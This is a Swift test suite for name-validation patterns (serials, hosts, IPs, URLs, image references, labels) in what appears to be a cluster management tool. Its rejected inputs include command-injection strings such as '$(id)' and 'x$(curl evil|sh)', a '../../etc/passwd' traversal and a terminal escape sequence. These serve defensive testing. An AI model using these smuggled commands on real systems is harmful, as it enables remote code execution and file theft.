import Diagnostics
import Testing
import Untrusted

@Suite("Names from outside")
struct NameTests {
  private static let nel = "\u{85}"

  @Test(
    "A serial number is letters, digits, dots and hyphens",
    arguments: [
      ("100000001234abcd", true), ("PF-1.2", true), ("", false), (String(repeating: "a", count: 65), false),
      ("10\" \(nel)!x apiVersion: v1", false), ("a\u{2028}b", false), ("a b", false), ("a\nb", false), ("ａ", false),
      ("$(id)", false), ("a'b", false), ("a\u{0}", false),
    ])
  func serial(_ text: String, _ isFine: Bool) { #expect(NamePattern.serial.accepts(text) == isFine) }

  @Test(
    "Names of hosts, addresses and ids",
    arguments: [
      ("dnsLabel", "n1", true), ("dnsLabel", "-n", false), ("dnsLabel", "N1", false), ("dnsLabel", "a.b", false),
      ("dnsSubdomain", "n1.lan", true), ("dnsSubdomain", "n1..lan", false), ("dnsSubdomain", "n1\n", false),
      ("dnsSubdomain", "ghost$(id)';id;'", false), ("hostName", "Pi_4", true), ("hostName", "-rf", false),
      ("machineID", "00000000000000000000000000000002", true), ("machineID", "2", false),
      ("machineID", "0000000000000000000000000000000g", false),
      ("bootID", "01234567-89ab-cdef-0123-456789abcdef", true), ("bootID", "01234567", false),
      ("ipv4", "10.0.0.1", true), ("ipv4", "10.0.0.256", false), ("ipv4", "010.0.0.1", false), ("ipv4", "1.2.3", false),
      ("ipv4", "1.2.3.4\n", false), ("mac", "dc:a6:32:00:00:01", true), ("mac", "dc-a6-32-00-00-01", false),
      ("interface", "eth0", true), ("interface", "eth0;id", false), ("interface", "a/b", false),
      ("version", "6.12.47+rpt-rpi-v8", true), ("version", "1.7.24~ds1-6+b4", true), ("version", "1 2", false),
      ("version", "`id`", false), ("package", "libssh2-1-dev", true), ("package", "a", false), ("package", "-o", false),
      ("unit", "kubelet.service", true), ("unit", "a b.service", false),
    ])
  func hosts(_ pattern: String, _ text: String, _ isFine: Bool) {
    #expect(Self.patterns[pattern]?.accepts(text) == isFine)
  }

  @Test(
    "Names of clusters and registries",
    arguments: [
      ("etcdMember", "8e9e05c52164694d", true), ("etcdMember", "2badc0de;id", false), ("etcdMember", "", false),
      ("url", "https://10.77.0.11:2379", true), ("url", "$(touch /run/x; id >&2)", false), ("url", "http://", false),
      ("url", "https://a/$(id)", false), ("url", "https://a b", false), ("url", "ftp://a", false),
      ("url", "https://a/'x'", false), ("url", "https://[fd00::1]:2380", true),
      ("digest", "sha256:" + String(repeating: "0", count: 64), true), ("digest", "sha256:../../etc/passwd", false),
      ("digest", "sha256:" + String(repeating: "A", count: 64), false), ("digest", "md5:00", false),
      ("imageReference", "registry.k8s.io/pause:3.9", true), ("imageReference", "x$(curl evil|sh)", false),
      ("imageReference", "localhost:5000/a/b:c", true), ("imageReference", "web", true),
      ("imageReference", "web@sha256:" + String(repeating: "a", count: 64), true), ("imageReference", "a/../b", false),
      ("imageReference", "web:", false), ("imageReference", "web: x", false), ("imageReference", "", false),
      ("imageReference", "Web", false), ("labelKey", "example.com/tier", true), ("labelKey", "a/b/c", false),
      ("labelKey", "/a", false), ("labelKey", "-a", false), ("labelValue", "", true), ("labelValue", "a\"b", false),
      ("labelValue", String(repeating: "a", count: 64), false),
    ])
  func clusters(_ pattern: String, _ text: String, _ isFine: Bool) {
    #expect(Self.patterns[pattern]?.accepts(text) == isFine)
  }

  @Test("A refused name is shown visibly, cut, with the rule") func refusal() {
    let error = #expect(throws: HearthError.self) {
      try NamePattern.serial.check("\u{1B}]0;x\u{7}" + String(repeating: "y", count: 500), of: "the serial number")
    }
    #expect(error?.message.hasPrefix("the serial number is `\\x1b]0;x\\x07yyy") == true)
    #expect((error?.message.count ?? 0) < 250)
    #expect(NamePattern.serial.optional("bad one") == nil)
  }

  private static let patterns: [String: NamePattern] = [
    "dnsLabel": .dnsLabel, "dnsSubdomain": .dnsSubdomain, "hostName": .hostName, "machineID": .machineID,
    "bootID": .bootID, "ipv4": .ipv4, "mac": .mac, "interface": .interface, "version": .version, "package": .package,
    "unit": .unit, "etcdMember": .etcdMember, "url": .url, "digest": .digest, "imageReference": .imageReference,
    "labelKey": .labelKey, "labelValue": .labelValue,
  ]
}
